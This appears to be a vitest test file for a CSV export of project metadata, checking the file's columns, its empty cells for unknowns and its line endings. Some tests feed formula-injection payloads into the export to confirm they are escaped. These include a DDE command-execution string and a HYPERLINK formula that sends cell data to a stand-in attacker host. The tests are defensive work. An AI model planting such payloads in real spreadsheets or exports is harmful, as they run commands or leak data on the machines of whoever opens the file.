import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { renderCsv } from '#core/publish/exports/csv.ts';
import { toProjectsTable } from '#core/publish/exports/projects-export.ts';
import type { ProjectsExport } from '#model/exports/exports.ts';
import { anyCharacter } from '../../../../any-character.ts';
import {
	aProjectsExport,
	anExportedCheck,
	anExportedProject,
	anExportedTool,
	anUnknownProject,
} from './values.ts';

const cellsOf = (csv: string): string[][] => parse(csv);
const rowsOf = (csv: string): Record<string, string>[] => parse(csv, { columns: true });
const renderProjectsCsv = (projects: ProjectsExport) => renderCsv(toProjectsTable(projects));
const rowOf = (projects: ProjectsExport, path: string) =>
	rowsOf(renderProjectsCsv(projects)).find((row) => row.path === path)!;

test('a row says what the JSON says', () => {
	const project = anExportedProject({
		category: { id: 'images', title: 'Images' },
		tools: [
			anExportedTool({
				state: 'behind',
				versions: [
					{ version: '1.25', file: 'go.mod', line: 3 },
					{ version: '1.25.1', file: 'mise.toml', line: 2 },
					{ version: '1.25', file: '.gitlab-ci.yml', line: 9 },
				],
			}),
		],
		checkCounts: { holds: 4, broken: 3, unknown: 2, exempt: 1 },
	});
	expect(rowOf(aProjectsExport({ projects: [project] }), project.path)).toEqual({
		path: 'example/tools/widget',
		name: 'Widget',
		group: 'product',
		category: 'images',
		deprecated: 'false',
		private: 'false',
		declared_archived: 'false',
		page: '/projects/example/tools/widget/',
		answer: 'found',
		archived: 'false',
		moved: 'false',
		current_path: 'example/tools/widget',
		hidden: '',
		unanswered: '',
		web_url: 'https://gitlab.example.com/example/tools/widget',
		description: 'Waits for work.',
		default_branch: 'main',
		licence: 'MIT License',
		languages: 'Go 98.1%; Shell 1.9%',
		topics: 'ci; runner',
		latest_version: 'v1.2.3',
		latest_version_kind: 'release',
		released_at: '2026-11-01T09:00:00Z',
		age_days: '22',
		release_overdue_after_days: '45',
		median_days_between_releases: '30',
		upcoming_release: '',
		pipeline: 'success',
		pipeline_at: '2026-11-20T12:10:00Z',
		last_activity_at: '2026-11-20T12:00:00Z',
		checks_holds: '4',
		checks_broken: '3',
		checks_unknown: '2',
		checks_exempt: '1',
		pulled_at: '2026-11-23T08:30:00Z',
		list_state: 'fresh',
		source: 'https://gitlab.example.com',
		sample: 'false',
		tool_go_state: 'behind',
		tool_go_versions: '1.25; 1.25.1',
		check_release: 'holds',
	});
});

describe('what is unknown is an empty cell', () => {
	const unknown = anUnknownProject({
		checks: [],
		checkCounts: { holds: 0, broken: 0, unknown: 0, exempt: 0 },
	});
	const row = rowOf(aProjectsExport({ projects: [unknown] }), unknown.path);
	const empty = Object.keys(row).filter((name) => row[name] === '');

	test('never 0, false or a word', () => {
		expect(empty).toEqual(
			(
				'category archived moved current_path hidden unanswered web_url description default_branch ' +
				'licence languages topics latest_version latest_version_kind released_at age_days ' +
				'release_overdue_after_days median_days_between_releases upcoming_release pipeline ' +
				'pipeline_at last_activity_at tool_go_versions check_release'
			).split(' '),
		);
	});

	test('while a count of none is 0', () => {
		expect(row.checks_unknown).toBe('0');
	});
});

describe('every row carries the stamp', () => {
	const { snapshot } = aProjectsExport();
	test.each([
		{ pulledAt: '2026-11-20T07:15:00Z', sample: true },
		{ pulledAt: null, sample: false },
	])('$pulledAt, $sample', ({ pulledAt, sample }) => {
		const projects = { ...snapshot.projects, pulledAt };
		const rows = rowsOf(
			renderProjectsCsv(aProjectsExport({ snapshot: { ...snapshot, sample, projects } })),
		);
		const stamp = { pulled_at: pulledAt ?? '', sample: String(sample) };
		expect(rows.map(({ pulled_at, sample }) => ({ pulled_at, sample }))).toEqual([stamp, stamp]);
	});
});

describe('the form of the file', () => {
	const csv = renderProjectsCsv(aProjectsExport());

	test('begins with the column "path", without a byte order mark', () => {
		expect(csv.startsWith('path,name,')).toBe(true);
	});

	test('ends each line with CRLF, and has as many cells in each', () => {
		const cells = cellsOf(csv);
		expect(cells).toHaveLength(3);
		expect(new Set(cells.map(({ length }) => length)).size).toBe(1);
		expect(csv.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
		expect(csv.endsWith('\r\n')).toBe(true);
	});

	test('a check has its column on days on which it applies to no project', () => {
		const projects = aProjectsExport({ projects: [anExportedProject({ checks: [] })] });
		expect(rowOf(projects, 'example/tools/widget').check_release).toBe('');
	});

	test('names each column once, and says what it holds', () => {
		const { columns } = toProjectsTable(aProjectsExport());
		expect(new Set(columns.map(({ name }) => name)).size).toBe(columns.length);
		expect(columns.filter(({ name }) => !/^[a-z][a-z_]*$/.test(name))).toEqual([]);
		expect(columns.filter(({ meaning }) => !/^\S.*\.$/.test(meaning))).toEqual([]);
	});

	test('holds only the columns when nothing is declared', () => {
		expect(cellsOf(renderProjectsCsv(aProjectsExport({ projects: [] })))).toHaveLength(1);
	});
});

/** What a spreadsheet takes for the beginning of a formula. */
const formula = /^[=+\-@\t\r＝＋－＠]/;

describe('text that a spreadsheet would run comes through as text', () => {
	test.each([
		`=cmd|'/C calc'!A0`,
		'=HYPERLINK("https://evil.example?"&A1,"click")',
		'+1',
		'-1',
		'@SUM(1)',
		'\t=1+1',
		'\r=1+1',
		'＝1+1',
		'"=1+1"',
		'",=1+1,"',
		'a\r\n=1+1,b',
		'a\n=1+1',
		`'=1+1`,
		'\u202E=1+1\u2066',
		'😀, "quoted"; and more',
		'x'.repeat(10_000),
	])('%j', (text) => {
		const project = anExportedProject({
			name: text,
			description: text,
			topics: [text],
			defaultBranch: text,
			licence: { name: text, url: null },
			languages: [{ name: text, share: 100 }],
			latestVersion: { kind: 'tag', tag: text, releasedAt: null, ageDays: null },
			pipeline: { status: text, updatedAt: null, webUrl: null },
			tools: [anExportedTool({ versions: [{ version: text, file: text, line: 1 }] })],
		});
		const csv = renderProjectsCsv(aProjectsExport({ projects: [project] }));
		const row = rowsOf(csv)[0]!;
		expect(Object.values(row).filter((cell) => formula.test(cell))).toEqual([]);
		const expected = formula.test(text) ? `'${text}` : text;
		for (const name of ['name', 'description', 'licence', 'latest_version', 'pipeline'] as const) {
			expect(row[name]).toBe(expected);
		}
	});

	test('whatever the text is, the row is whole and no cell is a formula', () => {
		fc.assert(
			fc.property(fc.string({ unit: anyCharacter, minLength: 1 }), (text) => {
				const project = anExportedProject({ name: text, description: text });
				const cells = cellsOf(renderProjectsCsv(aProjectsExport({ projects: [project] })));
				expect(cells).toHaveLength(2);
				expect(cells[1]).toHaveLength(cells[0]!.length);
				expect(cells[1]!.filter((cell) => formula.test(cell))).toEqual([]);
				expect(cells[1]![1]!.replace(/^'/, '')).toBe(text.replace(/^'/, ''));
			}),
			{ seed: 4, numRuns: 50 },
		);
	});
});

test('an answer stands in the column of its check', () => {
	const checks = [anExportedCheck({ answer: 'broken' })];
	const projects = aProjectsExport({ projects: [anExportedProject({ checks })] });
	expect(rowOf(projects, 'example/tools/widget').check_release).toBe('broken');
});
